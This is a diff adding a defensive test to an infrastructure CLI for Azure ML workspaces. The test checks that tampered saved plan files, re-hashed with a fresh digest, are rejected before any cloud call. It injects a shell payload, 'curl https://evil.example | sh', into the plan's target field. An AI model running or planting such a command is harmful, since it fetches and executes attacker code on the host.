@@ -235,3 +235,29 @@ def test_the_workspace_path_is_made_of_quoted_segments():
     path = workspace_path(TEST_SUBSCRIPTION, "rg/../other", "mlw?x=1")
     assert path == (f"subscriptions/{TEST_SUBSCRIPTION}/resourceGroups/rg%2F..%2Fother/providers/"
                     "Microsoft.MachineLearningServices/workspaces/mlw%3Fx%3D1")
+
+
+def test_a_plan_file_whose_targets_are_not_addresses_is_refused_before_apply_reads_azure(cloud, tmp_path):
+    """A saved plan carries its --target and --replace (and prints them back in its stale-plan hint): an edited
+    file whose digest was recomputed, as anyone can, must not carry a shell line or a path there."""
+    import hashlib
+
+    server, stack, _ = cloud
+    saved = tmp_path / "t.plan"
+    made = cli("plan", str(stack), "--target", "cluster.gpu1", "--replace", "cluster.gpu1", "--out", str(saved),
+               "--local", server=server, state=cloud[2])
+    assert made.returncode == 0, made.stdout + made.stderr
+    for key, hostile in (("targets", "cluster.gpu1; curl https://evil.example | sh"), ("replace", "cluster.gpu1/")):
+        body = json.loads(saved.read_text())
+        body[key] = [hostile]
+        content = {k: v for k, v in body.items() if k not in ("digest", "hmac")}
+        body["digest"] = "sha256:" + hashlib.sha256(
+            json.dumps(content, sort_keys=True, separators=(",", ":")).encode()).hexdigest()
+        edited = tmp_path / f"{key}.plan"
+        edited.write_text(json.dumps(body))
+        for command in (("show", str(edited)), ("apply", str(edited), "--local")):
+            before = server.stats.total
+            r = cli(*command, server=server, state=cloud[2])
+            assert r.returncode == 1 and "error[planfile.invalid]" in r.stderr, r.stdout + r.stderr
+            assert "is not an address" in r.stderr and GRAMMAR in r.stderr and "Traceback" not in r.stderr, r.stderr
+            assert "curl" not in r.stdout and server.stats.total == before
